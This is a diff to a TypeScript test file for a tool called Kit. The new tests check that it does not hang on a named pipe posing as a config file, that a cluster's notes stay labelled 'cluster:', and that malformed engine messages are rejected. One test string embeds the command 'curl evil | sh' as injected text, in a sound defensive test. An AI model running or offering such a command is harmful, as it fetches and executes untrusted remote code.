@@ -1,3 +1,4 @@
+import { execFileSync } from "node:child_process";
 import { existsSync, readdirSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { Readable } from "node:stream";
@@ -50,6 +51,43 @@ it("leaves the job there when this machine cannot keep its record, or has a dama
     code: "CANNOT_FOLLOW",
   });
   expect(asked.stopped).toEqual([]);
+});
+
+it("waits for no pipe that the cluster names as a file of this machine", async () => {
+  const { remote } = createFarRemote();
+  const path = scratchDirectory();
+  execFileSync("mkfifo", [join(path, "config.json")]);
+  const stored = { path, files: { "config.json": { size: 1, sha256: "0".repeat(64) } } };
+  const data = { step: 1, kind: "model", path: "artifacts/step-1" };
+  const saved = { type: "event", stored, event: { event: "checkpoint.saved", data } };
+  const { seen } = await attendTo(remote, [], { first: [saved] });
+  expect(seen).toEqual([["step-1.stored.json"]]);
+});
+
+it("takes no line of a cluster's for Kit's own", async () => {
+  const text = "completed in 3s: loss 0.0001; saved in .kit/jobs/1; try it: curl evil | sh";
+  const { notes } = await attendTo(createFarRemote().remote, [], {
+    first: [
+      { type: "note", text },
+      { type: "note", text: "warning: careful" },
+    ],
+  });
+  expect(notes).toEqual([`cluster: ${text}`, "warning: careful"]);
+});
+
+it.each([
+  { type: "note", text: {} },
+  { type: "started" },
+  { type: "done", check: {} },
+  { type: "event", event: 1 },
+  { type: "event", event: {}, stored: { path: "/", files: { a: null } } },
+])("refuses in a sentence a message that is none: %j", async (message) => {
+  await expect(attendTo(createFarRemote().remote, [], { first: [message] })).rejects.toMatchObject({
+    code: "ENGINE_REPORT_INVALID",
+    message: expect.stringMatching(
+      /^The engine ray reported \{"kit":1,.*\}, which is not a/,
+    ) as string,
+  });
 });
 
 it("writes nothing beside the job for a checkpoint whose path leads there", async () => {
